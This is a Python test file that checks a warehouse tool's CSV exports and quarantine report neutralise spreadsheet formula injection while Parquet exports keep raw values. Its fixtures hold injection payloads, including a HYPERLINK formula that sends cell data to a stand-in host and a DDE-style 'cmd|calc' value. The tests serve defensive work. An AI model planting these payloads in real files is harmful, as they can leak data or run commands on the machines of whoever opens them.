"""Warehouse exports are safe to open: CSV cells a spreadsheet would run are neutralised (events
export, quarantine CSV, `switchyard export`), while Parquet keeps the raw values."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner

from core.cli import main
from core.domain import UsageFilter
from core.warehouse import queries
from core.warehouse.db import Warehouse
from core.warehouse.ingest import ingest_bytes, quarantine_csv

ORG = "demo"
HYPERLINK = '=HYPERLINK("http://evil.example/"&A1,"click")'
FORMULAS = [HYPERLINK, "+cmd|calc!A1", "@SUM(1+1)", "-2+3", "\tTAB", "\rCR"]


def events_jsonl() -> bytes:
    lines = [
        json.dumps({"request_id": f"r{i}", "ts": f"2026-11-01T1{i}:00:00Z",
                    "provider_name": "openai", "request_model": "gpt-4o", "feature": feature,
                    "input_tokens": 100 + i, "output_tokens": None if i % 2 else 7,
                    "cost_usd": 0.01})
        for i, feature in enumerate(FORMULAS)
    ]
    return ("\n".join(lines) + "\n").encode()


@pytest.fixture()
def wh(tmp_path: Path) -> Iterator[Warehouse]:
    w = Warehouse(tmp_path / "wh.duckdb")
    ingest_bytes(w, ORG, events_jsonl(), "events.jsonl")
    yield w
    w.close()


FLT = UsageFilter(org_id=ORG, start=date(2026, 11, 1), end=date(2026, 11, 1))


def test_events_csv_export_neutralises_formulas(wh: Warehouse) -> None:
    body = queries.export_events(wh, FLT, "csv")
    got = list(csv.DictReader(io.StringIO(body.decode(), newline="")))
    by_id = {r["request_id"]: r for r in got}
    assert [by_id[f"r{i}"]["feature"] for i in range(len(FORMULAS))] == ["'" + f for f in FORMULAS]
    assert list(got[0]) == queries.EVENT_PAGE_COLUMNS
    # numbers stay numbers: integer columns with gaps are not written as floats
    assert by_id["r0"]["input_tokens"] == "100" and by_id["r0"]["output_tokens"] == "7"
    assert by_id["r1"]["output_tokens"] == ""
    assert by_id["r0"]["ts"] == "2026-11-01 10:00:00"
    assert [r["request_id"] for r in got] == [f"r{i}" for i in reversed(range(len(FORMULAS)))]


def test_events_parquet_export_keeps_raw_values(wh: Warehouse, tmp_path: Path) -> None:
    p = tmp_path / "out.parquet"
    p.write_bytes(queries.export_events(wh, FLT, "parquet"))
    table = pq.read_table(p)
    assert sorted(table.column("feature").to_pylist()) == sorted(FORMULAS)


def test_quarantine_csv_neutralises_formulas(tmp_path: Path) -> None:
    w = Warehouse(tmp_path / "q.duckdb")
    try:
        data = ("request_id,ts,provider_name,request_model\n"
                f'"{HYPERLINK.replace(chr(34), chr(34) * 2)}",2026-11-01T10:00:00Z\n').encode()
        report = ingest_bytes(w, ORG, data, "=evil.csv")
    finally:
        w.close()
    rows = list(csv.reader(io.StringIO(quarantine_csv(report).decode(), newline="")))
    assert rows[0] == ["file", "row_number", "reason", "values"]
    assert rows[1][0] == "'=evil.csv" and rows[1][1] == "2"
    assert rows[1][3].startswith("'" + HYPERLINK)


def test_cli_export_csv_and_parquet(home: Path, tmp_path: Path) -> None:
    src = tmp_path / "events.jsonl"
    src.write_bytes(events_jsonl())
    runner = CliRunner()
    loaded = runner.invoke(main, ["ingest", str(src), "--org", "acme"], catch_exceptions=False)
    assert loaded.exit_code == 0, loaded.output

    out_csv = tmp_path / "acme.csv"
    done = runner.invoke(main, ["export", "--org", "acme", "--from", "2026-11-01", "--to",
                                "2026-11-01", "--out", str(out_csv)], catch_exceptions=False)
    assert done.exit_code == 0, done.output
    rows = list(csv.DictReader(io.StringIO(out_csv.read_bytes().decode(), newline="")))
    assert len(rows) == len(FORMULAS)
    assert {r["feature"] for r in rows} == {"'" + f for f in FORMULAS}
    assert "'" + HYPERLINK in {r["feature"] for r in rows}

    out_pq = tmp_path / "acme.parquet"
    done = runner.invoke(main, ["export", "--org", "acme", "--format", "parquet", "--out",
                                str(out_pq)], catch_exceptions=False)
    assert done.exit_code == 0, done.output
    assert HYPERLINK in pq.read_table(out_pq).column("feature").to_pylist()

    # another organization's export is empty-handed, not someone else's rows
    other = runner.invoke(main, ["export", "--org", "demo", "--out", str(tmp_path / "d.csv")])
    assert other.exit_code == 1 and "organization demo has no usage to export" in other.output
    backwards = runner.invoke(main, ["export", "--org", "acme", "--from", "2026-11-02", "--to",
                                     "2026-11-01", "--out", str(tmp_path / "b.csv")])
    assert backwards.exit_code == 2 and "--to is before --from" in backwards.output
